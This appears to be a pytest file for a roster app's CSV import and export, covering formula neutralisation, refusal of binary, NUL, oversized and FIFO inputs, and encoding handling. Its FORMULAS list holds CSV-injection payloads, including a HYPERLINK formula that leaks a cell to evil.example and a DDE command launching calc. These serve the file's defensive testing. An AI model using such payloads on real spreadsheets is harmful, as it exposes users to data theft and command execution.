"""Spreadsheet files as hostile input, with real files: formula cells neutralised on the way out
(read back from the exported file), binary files, NUL, oversized and overlong files refused,
UTF-16 and UTF-8 read right, and every skipped row named with its reason."""

from __future__ import annotations

import codecs
import csv
import functools
import io
import os
import zipfile
from pathlib import Path

import pytest

from app.csv_file import (
    FORMULA_START,
    MAX_BYTES,
    MAX_COLUMNS,
    MAX_ROWS,
    Cancelled,
    CsvRefused,
    Refusal,
    read_capped,
    read_table,
)
from app.model import Member
from app.roster_csv import RowProblem
from tests.helpers.blocking import within_seconds

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Zoé")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tTab",
    "\rReturn",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width: the report's CSV neutralised it
]


def test_exported_formula_cells_read_back_as_text(fresh_group, tmp_path: Path) -> None:
    roster = fresh_group.roster
    for number, formula in enumerate(FORMULAS):
        roster.add_member(
            Member(f"Membre {number}", full_name=formula, phone=formula, private_note=formula)
        )
    roster.add_member(Member("=1+1", phone="+33 6 12 34 56 78"))
    path = tmp_path / "roster.csv"
    roster.export_csv(path, notes=True)
    text = path.read_bytes().decode("utf-8-sig")
    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'+cmd|' /C calc'!A0" in cells and "'+33 6 12 34 56 78" in cells and "'=1+1" in cells
    assert "'" + FORMULAS[-1] in cells
    # Imported again, the cells are what the host typed (the apostrophe is Cercle's own).
    preview = roster.preview_csv(path.read_bytes(), None)
    back = {m.pseudonym: m for m in preview.members(include_duplicates=True)}
    assert back["=1+1"].phone == "+33 6 12 34 56 78"
    assert back["Membre 1"].full_name == "+cmd|' /C calc'!A0"
    assert back["Membre 0"].private_note == FORMULAS[0]


def _refusal(data: bytes) -> Refusal:
    with pytest.raises(CsvRefused) as caught:
        read_table(data)
    return caught.value.reason


def _png() -> bytes:
    return bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 4


def _xlsx(tmp_path: Path) -> bytes:
    path = tmp_path / "roster.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return path.read_bytes()


def test_binary_files_and_nul_are_refused(tmp_path: Path) -> None:
    assert _refusal(_png()) is Refusal.BINARY
    assert _refusal(_xlsx(tmp_path)) is Refusal.BINARY
    assert _refusal(bytes(range(1, 32)) * 200) is Refusal.BINARY
    assert _refusal(b"Pseudo;Nom\r\nZo\x00e;Martin\r\n") is Refusal.NUL
    utf16_with_nul = "Pseudo;Nom\r\nZo\x00é;Martin\r\n".encode("utf-16")
    assert _refusal(utf16_with_nul) is Refusal.NUL
    assert _refusal(b"") is Refusal.EMPTY
    assert _refusal(b"x" * (MAX_BYTES + 1)) is Refusal.TOO_LARGE


def test_a_million_rows_are_refused_after_reading_only_the_cap(tmp_path: Path) -> None:
    path = tmp_path / "million.csv"
    path.write_bytes(b"Pseudo\n" + b"a\n" * 1_000_000)
    seen: list[int] = []
    with pytest.raises(CsvRefused) as caught:
        read_table(path.read_bytes(), seen.append)
    assert caught.value.reason is Refusal.TOO_MANY_ROWS
    assert seen and max(seen) < 5  # stopped in the first few percent of the file


def test_reading_stops_when_cancelled() -> None:
    data = ("Pseudo\n" + "Zoé\n" * MAX_ROWS).encode()
    with pytest.raises(Cancelled):
        read_table(data, stop=lambda: True)


@pytest.mark.parametrize(
    ("encoding", "name"),
    [
        ("utf-16", "utf-16"),  # Excel's "Unicode text": little-endian with its BOM
        ("utf-16-be-bom", "utf-16"),
        ("utf-8-sig", "utf-8"),
        ("utf-8", "utf-8"),
        ("cp1252", "cp1252"),
    ],
)
def test_accents_read_right_in_every_encoding_a_spreadsheet_writes(
    encoding: str, name: str, tmp_path: Path
) -> None:
    text = "Pseudo\tNom\r\nHélène\tÉlodie Noël\r\nGaëlle\tÇa va\r\n"
    data = (
        codecs.BOM_UTF16_BE + text.encode("utf-16-be")
        if encoding == "utf-16-be-bom"
        else text.encode(encoding)
    )
    path = tmp_path / "roster.csv"
    path.write_bytes(data)
    table = read_table(path.read_bytes())
    assert table.encoding == name and table.delimiter == "\t"
    assert table.header == ["Pseudo", "Nom"]
    assert table.rows == [["Hélène", "Élodie Noël"], ["Gaëlle", "Ça va"]]


def test_every_skipped_row_says_which_field_and_why(fresh_group, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    rows = [
        "Pseudo;Courriel;Note",
        "Zoé;zoe@example.org;",
        ";nobody@example.org;",
        "Marc;pas-un-courriel;",
        "Ali\x07ce;;",
        f"Inès;;{'x' * 20_001}",
        f"{'N' * 101};;",
    ]
    path.write_bytes("\r\n".join(rows).encode("utf-8"))
    preview = fresh_group.roster.preview_csv(path.read_bytes())
    found = [(r.line, r.problem, r.field, r.reason) for r in preview.rows]
    assert found == [
        (2, None, "", ""),
        (3, RowProblem.EMPTY_PSEUDONYM, "", ""),
        (4, RowProblem.BAD_EMAIL, "", ""),
        (5, RowProblem.FIELD, "pseudonym", "control"),
        (6, RowProblem.FIELD, "private_note", "too_long"),
        (7, RowProblem.FIELD, "pseudonym", "too_long"),
    ]
    assert [m.pseudonym for m in preview.members()] == ["Zoé"]
    assert MAX_ROWS >= 1_000  # a large group's roster still fits


def test_a_join_date_far_in_the_future_is_skipped(fresh_group) -> None:
    data = "Pseudo;Date d'arrivée\r\nPaul;01/01/9999\r\nLéa;03/02/2025\r\n".encode()
    preview = fresh_group.roster.preview_csv(data)
    assert [(r.problem, r.field, r.reason) for r in preview.rows] == [
        (RowProblem.FIELD, "joined_on", "future"),
        (None, "", ""),
    ]


def test_a_file_over_the_cap_is_refused_before_it_is_read(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as out:
        out.truncate(MAX_BYTES + 1)  # sparse: the size is what counts, not the bytes
    with pytest.raises(CsvRefused) as refused:
        read_capped(big)
    assert refused.value.reason is Refusal.TOO_LARGE
    small = tmp_path / "small.csv"
    small.write_bytes(b"pseudonym\nL\xc3\xa9a\n")
    assert read_capped(small) == b"pseudonym\nL\xc3\xa9a\n"


def test_a_cell_past_the_csv_modules_limit_skips_only_its_own_row(fresh_group) -> None:
    """The csv module stops at a cell of 128 KiB: the long row vanished unreported and every row
    after it was split at each semicolon, quotes and all (a member named 'ligne2"')."""
    data = (
        "Pseudo;Nom;Note\r\n"
        "Anne;A;\r\n"
        f"Bob;B;{'n' * 200_000}\r\n"
        'Zoé;"Dupont; Marie";"ligne1\nligne2"\r\n'
        "Léa;L;\r\n"
    ).encode()
    preview = fresh_group.roster.preview_csv(data)
    assert [(r.line, r.problem, r.field, r.reason) for r in preview.rows] == [
        (2, None, "", ""),
        (3, RowProblem.FIELD, "private_note", "too_long"),
        (4, None, "", ""),
        (5, None, "", ""),
    ]
    zoe = preview.members()[1]
    assert (zoe.full_name, zoe.private_note) == ("Dupont; Marie", "ligne1\nligne2")


def test_a_million_columns_are_refused_and_empty_trailing_ones_dropped() -> None:
    assert _refusal(b"c;" * 1_000_000 + b"\nx\n") is Refusal.TOO_MANY_COLUMNS
    assert _refusal(b"Pseudo\nZo\xc3\xa9" + b";x" * MAX_COLUMNS + b"\n") is Refusal.TOO_MANY_COLUMNS
    table = read_table(b"Pseudo;Nom" + b";" * 1_000_000 + b"\r\nZo\xc3\xa9;Z;;; ;\r\n")
    assert (table.header, table.rows) == (["Pseudo", "Nom"], [["Zoé", "Z"]])


def test_a_fifo_or_a_device_is_refused_without_being_read(tmp_path: Path) -> None:
    fifo = tmp_path / "roster.csv"
    os.mkfifo(fifo)
    device = tmp_path / "zero.csv"
    device.symlink_to("/dev/zero")
    for path in (fifo, device):
        with pytest.raises(CsvRefused) as refused:
            within_seconds(functools.partial(read_capped, path))
        assert refused.value.reason is Refusal.NOT_A_FILE


def test_an_export_to_the_longest_name_a_folder_takes_is_written(fresh_group, tmp_path) -> None:
    """254 bytes: the ".partial" written beside it was 262, past what a file name may hold."""
    folder = tmp_path / "stick"
    folder.mkdir()
    path = folder / ("é" * 125 + ".csv")
    fresh_group.roster.export_csv(path)
    assert path.read_bytes().startswith(codecs.BOM_UTF8)
    assert [p.name for p in folder.iterdir()] == [path.name]


def test_a_file_of_utf_8_with_one_latin_1_line_reads_every_name_right() -> None:
    """A roster saved by two programs: one byte of Windows Latin-1 made the whole file read as
    Latin-1, and every UTF-8 name was imported garbled ('HÃ©lÃ¨ne')."""
    data = "Pseudo;Nom\r\nHélène;Noël\r\n".encode() + "Zoé;Gaëlle\r\n".encode("cp1252")
    table = read_table(data)
    assert table.rows == [["Hélène", "Noël"], ["Zoé", "Gaëlle"]]
    assert table.encoding == "mixed"


def test_a_skipped_row_is_named_by_its_row_in_the_spreadsheet(fresh_group) -> None:
    """Blank rows and a cell of two lines were not counted: 'row 3: not an email address'
    pointed at Zoé, whose address is sound, instead of Marc two rows further."""
    data = (
        "Pseudo;Courriel\r\n"  # row 1
        ";\r\n"  # row 2, empty
        "Zoé;zoe@example.org\r\n"  # 3
        "\r\n"  # 4, blank
        "Marc;pas-un-courriel\r\n"  # 5
        '"Léa\nbis";lea@example.org\r\n'  # 6, one row of two lines
        "Ali;ni-un-courriel\r\n"  # 7
    ).encode()
    preview = fresh_group.roster.preview_csv(data)
    assert [(r.line, r.problem) for r in preview.rows] == [
        (3, None),
        (5, RowProblem.BAD_EMAIL),
        (6, RowProblem.FIELD),
        (7, RowProblem.BAD_EMAIL),
    ]


def test_two_files_put_end_to_end_read_as_one_roster() -> None:
    """The second file's header became a member named "Pseudo", and its byte-order mark stayed
    in a name, invisible ("\ufeffPseudo")."""
    first = "Pseudo;Nom\r\nZoé;Z\r\n".encode("utf-8-sig")
    second = "Pseudo;Nom\r\nMarc;M\r\n".encode("utf-8-sig")
    table = read_table(first + second)
    assert (table.header, table.rows, table.lines) == (
        ["Pseudo", "Nom"],
        [["Zoé", "Z"], ["Marc", "M"]],
        [2, 4],
    )
